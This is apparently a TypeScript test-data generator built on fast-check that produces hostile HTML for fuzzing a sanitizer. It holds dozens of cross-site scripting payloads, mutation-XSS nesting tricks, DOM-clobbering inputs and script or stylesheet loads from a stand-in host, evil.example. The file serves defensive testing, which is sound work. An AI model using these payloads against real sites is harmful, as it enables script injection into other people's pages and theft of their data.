import fc from 'fast-check';

/** What people have tried to get past readers of HTML: broken nesting, foreign content, hidden scripts, addresses in disguise, clobbered names. */
const PIECES = [
  ...[
    '<svg>',
    '</svg>',
    '<math>',
    '</math>',
    '<mtext>',
    '<mglyph>',
    '<foreignObject>',
    '<desc>',
    '<title>',
    '</title>',
    '<annotation-xml encoding="text/html">',
  ],
  ...[
    '<style>',
    '</style>',
    '<noscript>',
    '</noscript>',
    '<template>',
    '</template>',
    '<textarea>',
    '</textarea>',
    '<xmp>',
    '</xmp>',
    '<plaintext>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
  ],
  ...[
    '<table>',
    '</table>',
    '<tr>',
    '<td>',
    '<caption>',
    '<select>',
    '<option>',
    '</select>',
    '<form>',
    '</form>',
    '<button>',
    '<p>',
    '</p>',
    '<b>',
    '</b>',
    '<a href="/x">',
    '</a>',
    '<li>',
    '<h2>',
    '<pre>\n',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img srcset="x 2x, javascript:alert(1)">',
    '<script>alert(1)</script>',
    '<script src=//evil.example></script>',
  ],
  ...[
    '<a href="jav&#x0A;ascript:alert(1)">',
    '<a href="&#1;javascript:alert(1)">',
    '<a xlink:href="javascript:alert(1)">',
    '<a href=javascript&colon;alert(1) ping=//evil.example>',
    '<a target=_self onclick=alert(1) href=/>',
  ],
  ...[
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe src=javascript:alert(1)>',
    '<object data=//evil.example>',
    '<embed src=//evil.example>',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  ],
  ...[
    '<link rel=stylesheet href=//evil.example>',
    '<div style="background:url(javascript:alert(1));width:expression(alert(1))">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
  ],
  ...[
    '<animate attributeName=href values=javascript:alert(1)>',
    '<use href="data:image/svg+xml,<svg/>">',
    '<input autofocus onfocus=alert(1)>',
    '<isindex>',
    '<frameset onload=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<x-y is=z onclick=alert(1)>',
  ],
  ...[
    '"',
    "'",
    '>',
    '<',
    '&lt;script&gt;',
    '\u0000',
    '\u2028',
    '</',
    '/>',
    '=',
    'текст',
    '<form id=attributes><input name=childNodes>',
    '<img name=getElementById src=/a>',
    '<p id="__proto__">',
    '<a id=location href=/x>',
  ],
] as const;

/** One snippet of hostile HTML. */
export const hostileHtml = fc
  .array(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...PIECES) }, fc.string({ maxLength: 8 })), { maxLength: 24 })
  .map((parts) => parts.join(''));

/** Whole sentences of the trade: what has worked somewhere once. */
const KNOWN = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><animate xlink:href=#x attributeName=href values=&#106;avascript:alert(1) /><a id=x><text x=20 y=20>x</text></a></svg>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<template><img src=x onerror=alert(1)></template><script>alert(1)</script>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *"><script src=//evil.example></script>',
  '<link rel=stylesheet href="data:text/css,*{background:url(//evil.example)}">',
  '<link rel=modulepreload href=//evil.example><link rel=prefetch href=//evil.example>',
  '<style>@import "//evil.example";</style><style>*{background:url(//evil.example)}</style>',
  '<p style="background-image:url(//evil.example)">x</p>',
  '<form action=javascript:alert(1)><button>x</button></form><form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',
  '<a href=" \u0001JaVaScRiPt&#58;alert(1)">x</a>',
  '<a href="java&Tab;script&NewLine;:alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="data:text/html,<script>opener.alert(1)</script>">x</a>',
  '<area href=javascript:alert(1)><map><area href=javascript:alert(1)></map>',
  '<img src=`x` onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//>',
  '<img src=x onerror\u000c=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u000b>alert(1)</script><script/x>alert(1)</script>',
  '<script type=module>alert(1)</script>',
  '<script type=importmap>{"imports":{"/":"//evil.example"}}</script>',
  '<script>self.__next_f.push([1,"0:[\\"$\\",\\"script\\",null,{\\"children\\":\\"alert(1)\\"}]\\n"])</script>',
  '<script id="_R_">alert(1)</script>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus><textarea autofocus onfocus=alert(1)></textarea><select autofocus onfocus=alert(1)></select>',
  '<p tabindex=1 onfocus=alert(1) onmouseover=alert(1) onpointerenter=alert(1) onclick=alert(1)>x</p>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p><p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>x</button>',
  '<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>',
  '<html onmouseover=alert(1)><head onload=alert(1)>',
  '<img name=body src=/a><form name=head><input name=appendChild></form><a id=self></a><a id=self name=__next_f href=/x>x</a>',
  '<base href="//evil.example/"><script src="x.js"></script>',
  '<portal src=javascript:alert(1)></portal><fencedframe src=//evil.example></fencedframe>',
  '<x contenteditable autofocus onfocus=alert(1)>x</x>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=alert(1) /></svg>#x" /></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /><image href=x onerror=alert(1) /></svg>',
] as const;

const BROUGHT = fc.array(
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...PIECES) },
    { weight: 2, arbitrary: fc.constantFrom(...KNOWN) },
    fc.string({ maxLength: 8 }),
  ),
  { minLength: 1, maxLength: 10 },
);

/** So many snippets, the same for the same seed; what the n-th would run is `ran(n)`, and what it would load lies at `evil.example/n`. */
export const hostileSnippets = (many: number, seed: number): readonly string[] =>
  fc
    .sample(BROUGHT, { numRuns: many, seed })
    .map((parts, n) => (n < KNOWN.length ? [KNOWN[n] ?? '', ...parts] : parts).join(''))
    .map((html, n) =>
      html
        .replaceAll('alert(1)', `ran(${n})`)
        .replaceAll('alert&#40;1)', `ran&#40;${n})`)
        .replaceAll('//evil.example', `//evil.example/${n}`)
        // nothing that stands behind it would be looked at any more
        .replaceAll('<plaintext>', '<xmp>'),
    );
